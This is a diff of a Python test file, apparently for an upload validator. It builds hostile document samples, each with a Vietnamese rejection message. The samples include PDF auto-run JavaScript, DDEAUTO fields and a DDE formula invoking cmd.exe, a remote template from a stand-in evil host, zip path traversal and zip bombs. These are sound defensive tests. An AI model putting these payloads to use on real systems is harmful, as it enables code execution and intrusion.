@@ -135,7 +135,8 @@ def squeezed(content: bytes) -> bytes:
 
 
 def javascript(writer: PdfWriter) -> None:
-    action = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
+    script = TextStringObject("app.alert(1)")
+    action = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): script}
     writer._root_object[NameObject("/OpenAction")] = DictionaryObject(action)
 
 
@@ -230,7 +231,8 @@ def field(instruction: str) -> bytes:
 
 
 def field_in_pieces() -> bytes:
-    run = b"<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\x</w:instrText></w:r></w:p>"
+    halves = (b"<w:r><w:instrText>%s</w:instrText></w:r>" % half for half in (b"DD", b"EAUTO c:\\x"))
+    run = b"<w:p>" + b"".join(halves) + b"</w:p>"
     return replaced("word/document.xml", b"<w:sectPr", run + b"<w:sectPr")
 
 
@@ -258,7 +260,8 @@ PICTURES = [
     Hostile("TIFF as JPEG", "ảnh.jpg", lambda: picture("TIFF"), "GIF, BMP hoặc TIFF"),
     Hostile("HEIC of a telephone", "IMG_1.HEIC", lambda: b"\0\0\0\x18ftypheic" + b"\0" * 99, "HEIC"),
     Hostile("film", "phim.mp4", lambda: b"\0\0\0\x18ftypisom" + b"\0" * 99, "phim hoặc âm thanh"),
-    Hostile("100 megapixels, honest", "ảnh.png", lambda: png(10_000, 10_000), "quá nhiều điểm ảnh (100 triệu"),
+    Hostile("100 megapixels, honest", "ảnh.png",
+            lambda: png(10_000, 10_000), "quá nhiều điểm ảnh (100 triệu"),
     Hostile("100 megapixels, JPEG", "ảnh.jpg", lambda: promising(10_000, 10_000), "quá nhiều điểm ảnh (100"),
     Hostile("four gigapixels", "ảnh.jpg", lambda: promising(65_500, 65_500), "quá nhiều điểm ảnh"),
     Hostile("bomb: more dots than promised", "ảnh.png",
@@ -293,14 +296,16 @@ CARDS = [
     Hostile("card in a PDF", "giấy.pdf", lambda: pdf(image=card()), "mã QR của thẻ căn cước"),
     Hostile("card in a Word file", "giấy.docx", lambda: docx(card()), "mã QR của thẻ căn cước"),
     Hostile("card by its name", "CCCD mặt trước.jpg", picture, "theo tên là giấy tờ tuỳ thân"),
-    Hostile("card by its unmarked name", "can_cuoc-mat-sau.PNG", lambda: picture("PNG"), "theo tên là giấy tờ"),
+    Hostile("card by its unmarked name", "can_cuoc-mat-sau.PNG",
+            lambda: picture("PNG"), "theo tên là giấy tờ"),
     Hostile("passport", "Hộ chiếu.pdf", pdf, "theo tên là giấy tờ"),
     Hostile("number in the name", "048 085 001 234.jpg", picture, "số căn cước trong tên"),
 ]  # fmt: skip
 
 PDFS = [
     Hostile("JavaScript", "giấy.pdf", lambda: pdf(change=javascript), "mã lệnh hoặc nút tự chạy"),
-    Hostile("JavaScript out of sight", "giấy.pdf", lambda: squeezed(pdf(change=javascript)), "mã lệnh hoặc nút"),
+    Hostile("JavaScript out of sight", "giấy.pdf",
+            lambda: squeezed(pdf(change=javascript)), "mã lệnh hoặc nút"),
     Hostile("JavaScript by another spelling", "giấy.pdf",
             lambda: pdf(change=javascript).replace(b"/JavaScript", b"/J#61vaScript"), "mã lệnh hoặc nút"),
     Hostile("starts a program", "giấy.pdf", lambda: pdf(change=launching), "mã lệnh hoặc nút tự chạy"),
@@ -325,7 +330,8 @@ OFFICE = [
     Hostile("absolute path", "giấy.docx", lambda: with_part("/etc/cron.d/x.xml", b"x"), "không an toàn"),
     Hostile("path of Windows", "giấy.docx", lambda: with_part("..\\x.xml", b"x"), "không an toàn"),
     Hostile("symbolic link", "giấy.docx", with_symlink, "không an toàn"),
-    Hostile("bomb of one part", "giấy.docx", lambda: with_part("word/media/a.png", b"\0" * 60_000_000), "phình ra"),
+    Hostile("bomb of one part", "giấy.docx",
+            lambda: with_part("word/media/a.png", b"\0" * 60_000_000), "phình ra"),
     Hostile("bomb of many entries", "giấy.docx",
             lambda: archive(parts_of(docx()) | {f"word/x{n}.xml": b"" for n in range(2_100)}), "phình ra"),
     Hostile("entities of XML", "giấy.docx", lambda: with_part(
@@ -333,19 +339,22 @@ OFFICE = [
     Hostile("macro", "giấy.docx", lambda: with_part("word/vbaProject.bin", OLE), "có macro"),
     Hostile("macro by its type", "giấy.docx", lambda: replaced(
         "[Content_Types].xml", b"wordprocessingml.document.main+xml", b"macroEnabled.main+xml"), "có macro"),
-    Hostile("object inside", "giấy.docx", lambda: with_part("word/embeddings/oleObject1.bin", OLE), "kèm bên trong"),
+    Hostile("object inside", "giấy.docx",
+            lambda: with_part("word/embeddings/oleObject1.bin", OLE), "kèm bên trong"),
     Hostile("program inside", "giấy.docx", lambda: with_part("word/setup.exe", b"MZ"), "kèm bên trong"),
     Hostile("virus test text inside", "giấy.docx", lambda: with_part("word/a.txt", EICAR), "kèm bên trong"),
     Hostile("template from elsewhere", "giấy.docx",
             lambda: linked("attachedTemplate", "http://evil.example/x.dotm"), "từ nơi khác"),
-    Hostile("picture from elsewhere", "giấy.docx", lambda: linked("image", "file://srv/x.png"), "từ nơi khác"),
+    Hostile("picture from elsewhere", "giấy.docx",
+            lambda: linked("image", "file://srv/x.png"), "từ nơi khác"),
     Hostile("link to a file", "giấy.docx", lambda: linked("hyperlink", "file:///c:/x.exe"), "từ nơi khác"),
     Hostile("ordinary link", "giấy.docx", lambda: linked("hyperlink", "https://hoc.vn/lop")),
     Hostile("DDE field", "giấy.docx", lambda: field("DDEAUTO c:\\\\windows\\\\cmd.exe"), "từ nơi khác"),
     Hostile("DDE field in pieces", "giấy.docx", field_in_pieces, "từ nơi khác"),
     Hostile("page number field", "giấy.docx", lambda: field("PAGE")),
     Hostile("DDE formula", "bảng.xlsx", lambda: formula("cmd|'/c calc'!A0"), "từ nơi khác"),
-    Hostile("formula that calls the web", "bảng.xlsx", lambda: formula('WEBSERVICE("http://x")'), "từ nơi khác"),
+    Hostile("formula that calls the web", "bảng.xlsx",
+            lambda: formula('WEBSERVICE("http://x")'), "từ nơi khác"),
     Hostile("other book", "bảng.xlsx", lambda: with_part("xl/externalLinks/externalLink1.xml", b"<x/>", xlsx),
             "kèm bên trong"),
     Hostile("zip called Word", "giấy.docx", lambda: archive({"a.txt": b"x"}), "tệp nén"),
@@ -354,7 +363,8 @@ OFFICE = [
     Hostile("old Word or password", "giấy.docx", lambda: OLE + b"\0" * 2000, "có mật khẩu"),
     Hostile("encrypted parts", "giấy.docx", encrypted_zip, "có mật khẩu"),
     Hostile("something before the zip", "giấy.docx", lambda: b"MZ" + docx(), "chương trình chạy được"),
-    Hostile("something behind the zip", "giấy.docx", lambda: docx() + b"GIF89a" + b"\0" * 500, "tệp khác giấu"),
+    Hostile("something behind the zip", "giấy.docx",
+            lambda: docx() + b"GIF89a" + b"\0" * 500, "tệp khác giấu"),
     Hostile("cut short", "giấy.docx", lambda: docx()[:-300], "tệp nén"),
     Hostile("damaged part", "giấy.docx", lambda: docx().replace(b"PK\x03\x04", b"PK\x03\x05").replace(
         b"PK\x03\x05", b"PK\x03\x04", 1), "bị hỏng"),
